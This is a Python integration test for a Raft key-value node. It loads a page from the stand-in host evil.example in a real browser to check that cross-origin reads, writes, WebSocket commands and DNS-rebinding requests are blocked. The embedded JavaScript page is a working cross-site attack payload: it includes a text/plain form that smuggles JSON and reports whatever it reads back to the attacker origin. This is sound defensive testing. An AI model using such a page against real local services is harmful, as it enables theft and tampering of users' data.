"""A real browser: what pages of other origins can do to a node on this machine."""

from __future__ import annotations

import json
from typing import Any

from twisted.internet.defer import Deferred
from twisted.internet.endpoints import TCP4ServerEndpoint
from twisted.web.resource import Resource
from twisted.web.server import Site

from contrib import RaftClient
from tests.integration.base import ProcessTestCase, free_ports
from tests.support.browser import Browser, find_browser

BROWSER_SECONDS = 45
RESOLVE = "--host-resolver-rules=MAP evil.example 127.0.0.1"
PAGE = """<!doctype html><title>page</title><iframe name="hidden"></iframe>
<form id="form" target="hidden" method="post" enctype="text/plain" action="NODE/kv/by-form">
<input name='{"value":"written","x":"' value='"}'></form>
<script>
const node = "NODE", found = {};
async function attempt(name, work) {
  try { found[name] = await work(); } catch (error) { found[name] = "blocked"; }
}
const text = async (response) => response.type === "opaque" ? "opaque" : await response.text();
const store = (key, more) => fetch(node + "/kv/" + key,
  {method: "POST", body: JSON.stringify({value: "written"}), ...more}).then(text);
function socket() {
  return new Promise((resolve, reject) => {
    const ws = new WebSocket(node.replace("http", "ws") + "/uring");
    ws.onerror = reject;
    ws.onopen = () => ws.send(JSON.stringify({As: {protocol: "KV",
      cmd: {Put: {rid: 1, key: "by-socket", store: "written"}}}}));
    ws.onmessage = (event) => resolve(event.data);
  });
}
function image() {
  return new Promise((resolve) => {
    const each = new Image();
    each.onload = () => resolve("loaded");
    each.onerror = () => resolve("blocked");
    each.src = node + "/kv/secret";
  });
}
function script() {
  return new Promise((resolve) => {
    const each = document.createElement("script");
    each.onload = () => resolve("loaded");
    each.onerror = () => resolve("blocked");
    each.src = node + "/kv/secret";
    document.body.appendChild(each);
  });
}
function form() {
  return new Promise((resolve) => {
    document.getElementsByName("hidden")[0].onload = () => resolve("sent");
    document.getElementById("form").submit();
    setTimeout(() => resolve("sent"), 3000);
  });
}
(async () => {
  await attempt("read", () => fetch(node + "/kv/secret").then(text));
  await attempt("read as no-cors", () => fetch(node + "/kv/secret", {mode: "no-cors"}).then(text));
  await attempt("post text", () => store("by-text"));
  await attempt("post as no-cors", () => store("by-no-cors", {mode: "no-cors"}));
  await attempt("post json", () => store("by-json",
    {headers: {"Content-Type": "application/json"}}));
  await attempt("beacon", () => String(navigator.sendBeacon(node + "/kv/by-beacon",
    JSON.stringify({value: "written"}))));
  await attempt("delete", () => fetch(node + "/kv/secret", {method: "DELETE"}).then(text));
  await attempt("socket", socket);
  await attempt("image", image);
  await attempt("script", script);
  await attempt("form", form);
  await fetch("/found", {method: "POST", body: JSON.stringify(found)});
})();
</script>"""


class Pages(Resource):
    """Serves the page, and takes what it found out."""

    isLeaf = True

    def __init__(self, node: str) -> None:
        super().__init__()
        self._page = PAGE.replace("NODE", node).encode()
        self.found: Deferred[dict[str, str]] = Deferred()

    def render_GET(self, request: Any) -> bytes:
        request.setHeader(b"Content-Type", b"text/html; charset=utf-8")
        return self._page

    def render_POST(self, request: Any) -> bytes:
        if not self.found.called:
            self.found.callback(json.load(request.content))
        return b""


class BrowserTests(ProcessTestCase):
    """Pages at http://evil.example, and a node on localhost."""

    timeout = 120

    def setUp(self) -> None:
        find_browser()
        super().setUp()

    def browser(self) -> Browser:
        """Return a browser that ends with the test."""
        directory = self.directory / f"browser-{len(list(self.directory.iterdir()))}"
        directory.mkdir()
        browser = Browser(self.reactor, directory, RESOLVE)
        self.addCleanup(browser.kill)
        return browser

    async def node(self, *options: str) -> RaftClient:
        (self.number,) = free_ports(1)
        self.server(1, self.number, [], bootstrap=True, options=options).start()
        client = RaftClient(self.number, node_id=1, reactor=self.reactor)
        self.clients.append(client)
        await client.wait_until_up()
        await self.leader(client)
        await client.put("secret", "treasure")
        return client

    async def visit(self, port: Any, pages: Pages) -> dict[str, str]:
        """Let the browser load the page; return what the page found out."""
        browser = self.browser()
        pages.found.addTimeout(BROWSER_SECONDS, self.reactor)
        await browser.open(f"http://evil.example:{port.getHost().port}/")
        found: dict[str, str] = await pages.found
        await browser.kill()
        return found

    async def listen(self, pages: Pages) -> Any:
        endpoint = TCP4ServerEndpoint(self.reactor, 0, interface="127.0.0.1")
        port: Any = await endpoint.listen(Site(pages))
        self.addCleanup(port.stopListening)
        return port

    async def written(self, client: RaftClient) -> list[str]:
        """Return which of the ways to write worked."""
        ways = ("text", "no-cors", "json", "beacon", "socket", "form")
        return [way for way in ways if await client.get(f"by-{way}") is not None]

    async def test_foreign_page(self) -> None:
        """A page of another origin can neither read nor write, by any means that it has."""
        client = await self.node()
        for host in ("localhost", "127.0.0.1"):
            pages = Pages(f"http://{host}:{self.number}")
            found = await self.visit(await self.listen(pages), pages)
            self.assertEqual(len(found), 11, found)
            self.assertEqual(await self.written(client), [])
            self.assertEqual(await client.get("secret"), "treasure")
            self.assertNotIn("treasure", json.dumps(found))
            for way in ("read", "post text", "post json", "delete", "socket", "image", "script"):
                self.assertEqual(found[way], "blocked", way)

    async def test_page_that_is_allowed(self) -> None:
        """The same page of an origin that the node allows reads and writes: the page works."""
        pages = Pages("")  # known only once the port is
        port = await self.listen(pages)
        client = await self.node("--allow-origin", f"http://evil.example:{port.getHost().port}")
        pages._page = PAGE.replace("NODE", f"http://localhost:{self.number}").encode()
        found = await self.visit(port, pages)
        self.assertIn("treasure", found["read"])
        self.assertIn('"code":201', found["socket"])
        self.assertLessEqual({"text", "json", "socket"}, set(await self.written(client)))
        self.assertIsNone(await client.get("secret"))

    async def test_name_that_was_rebound(self) -> None:
        """A name of the attacker that leads to the node is refused, reads included."""
        await self.node()
        browser, shown = self.browser(), {}
        for host in ("evil.example", "localhost"):
            page = await browser.open(f"http://{host}:{self.number}/kv/secret")
            shown[host] = await page.until("document.body.innerText")
        self.assertIn("treasure", shown["localhost"])
        self.assertNotIn("treasure", shown["evil.example"])
        self.assertIn("does not go by that Host", shown["evil.example"])
